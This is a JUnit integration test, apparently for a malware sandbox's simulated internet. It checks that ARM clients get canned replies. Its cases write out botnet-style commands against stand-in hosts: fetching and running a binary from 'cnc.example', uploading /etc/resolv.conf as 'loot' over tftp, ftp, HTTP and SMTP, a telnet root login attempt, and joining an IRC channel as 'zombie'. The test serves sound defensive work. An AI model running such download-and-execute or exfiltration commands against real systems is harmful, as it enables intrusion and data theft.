package org.malassay.environments.internet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.malassay.environment.EnvironmentException;
import org.malassay.environments.host.Cache;
import org.malassay.options.Options;

/** Debian's ARM clients, in real network namespaces, get what they ask for. */
@Tag("guest")
@Tag("slow")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RealClientsIT {
  private InternetProgram program;
  private DebianTree clients;
  private Answers answers;

  @BeforeAll
  void prepare() throws IOException, EnvironmentException {
    program = InternetProgram.get(new Cache(Path.of("target/internet").toAbsolutePath()));
    clients = DebianTree.clients();
    Files.writeString(clients.folder().resolve("etc/resolv.conf"), "nameserver 192.168.1.1\n");
    answers = Answers.load(Options.of(Map.of()), program.harmless());
  }

  private NamespaceRun.Outcome run(String command) throws Exception {
    List<String> words =
        List.of(
            "sh",
            "-c",
            "%s /usr/bin/busybox sh -c \"$1\"".formatted(clients.in()),
            "clients",
            "cd /tmp && rm -rf * && " + command);
    try (NamespaceRun run = NamespaceRun.start(program, answers, words)) {
      return run.await();
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      value = {
        // what the client is told to do § its status § what it prints § what is told of it
        "busybox wget -qO - http://cnc.example/b.sh § 0 § A harmless script § http: GET http://cnc.example/b.sh: 200, 80 bytes (page)",
        "busybox wget -q http://203.0.113.5/a.arm && chmod +x a.arm && ./a.arm § 0 § A harmless program, given out by § http: GET http://203.0.113.5/a.arm: 200, ",
        "busybox wget -qO - http://[2001:db8::7]:8088/x § 0 § A harmless program § http: GET http://[2001:db8::7]:8088/x: 200, ",
        "busybox wget -qO - --post-data=a=b http://cnc.example/report.php § 0 § '' § http: POST http://cnc.example/report.php: 200, 55 bytes",
        "busybox nslookup cnc.example § 0 § Address: 198.1 § dns: A cnc.example: 198.1",
        "busybox nslookup -type=mx cnc.example 8.8.8.8 § 0 § mail.cnc.example § dns: MX cnc.example: 10 mail.cnc.example.",
        "busybox nslookup 198.51.100.7 § 0 § host-198-51-100-7.example § dns: PTR 7.100.51.198.in-addr.arpa: host-198-51-100-7.example.",
        "busybox tftp -g -r a.arm -l - 203.0.113.9 § 0 § A harmless program § tftp: read a.arm: ",
        "busybox tftp -p -l /etc/resolv.conf -r loot 203.0.113.9 § 0 § '' § tftp: write loot: taken",
        "busybox ftpget 203.0.113.9 - a.arm § 0 § A harmless program § ftp: RETR a.arm: ",
        "busybox ftpput 203.0.113.9 loot /etc/resolv.conf § 0 § '' § ftp: STOR loot: taken",
        "(sleep 1; echo root; sleep 1; echo pw; sleep 1) | busybox telnet 203.0.113.9 § 0 § Login incorrect § telnet: login root pw: refused",
        "busybox ping -c 2 203.0.113.9 § 0 § 2 packets received § icmp: 203.0.113.9:0",
        "busybox ping6 -c 1 2001:db8::9 § 0 § 1 packets received § ipv6-icmp: [2001:db8::9]:0",
        "curl -sS http://cnc.example/b.sh § 0 § A harmless script § http: GET http://cnc.example/b.sh: 200",
        "curl -sS -6 -I http://cnc.example/a.arm § 0 § HTTP/1.1 200 OK § http: HEAD http://cnc.example/a.arm: 200",
        "curl -sS -d @/etc/resolv.conf -H 'Transfer-Encoding: chunked' http://203.0.113.9/up http://203.0.113.9/b.html § 0 § '' § http: POST http://203.0.113.9/b.html: 200",
        "curl -sSk https://cnc.example/ § 35 § handshake failure § tls: hello cnc.example, TLS 1.3 1.2, for h2 http/1.1: refused",
        "curl -sS ftp://203.0.113.9/a.arm § 0 § A harmless program § ftp: RETR a.arm: ",
        "curl -sS -g ftp://[2001:db8::9]/a.arm § 0 § A harmless program § ftp: RETR a.arm: ",
        "curl -sS -T /etc/resolv.conf ftp://203.0.113.9/loot § 0 § '' § ftp: STOR loot: taken",
        "curl -sS tftp://203.0.113.9/a.arm § 0 § A harmless program § tftp: read a.arm: ",
        "curl -sS smtp://203.0.113.9 --mail-from a@b.example --mail-rcpt c@d.example -T /etc/resolv.conf § 0 § '' § smtp: to <c@d.example>: taken",
        "curl -sS -m 5 telnet://203.0.113.9:2323 </dev/null § 28 § login: § tcp: 203.0.113.9:2323: telnet",
        "tnftp -o - ftp://203.0.113.9/b.sh § 0 § A harmless script § ftp: RETR b.sh: 80 bytes",
        "tftp -m binary 203.0.113.9 -c get a.arm && cat a.arm § 0 § A harmless program § tftp: read a.arm: ",
        "(sleep 2; echo root; sleep 1; echo pw; sleep 1) | inetutils-telnet 203.0.113.9 § 0 § Login incorrect § telnet: login root pw: refused",
        "chronyd -u root -Q -t 20 'server 203.0.113.9 iburst maxsamples 1' § 0 § System clock wrong by § ntp: time: the time",
        "(sleep 3; echo /join '#army'; sleep 1; echo /quit; sleep 1) | TERM=dumb IRCNICK=zombie ircII -d -q zombie 203.0.113.9 § 0 § Welcome to the Internet Relay Network zombie § irc: join #army: alone there",
      })
  void aClientGetsWhatItAsksFor(String command, int status, String printed, String told)
      throws Exception {
    NamespaceRun.Outcome outcome = run(command);
    assertThat(outcome.output()).contains(printed);
    assertThat(outcome.status()).as(outcome.output()).isEqualTo(status);
    assertThat(outcome.told()).anyMatch(it -> it.startsWith(told));
  }
}
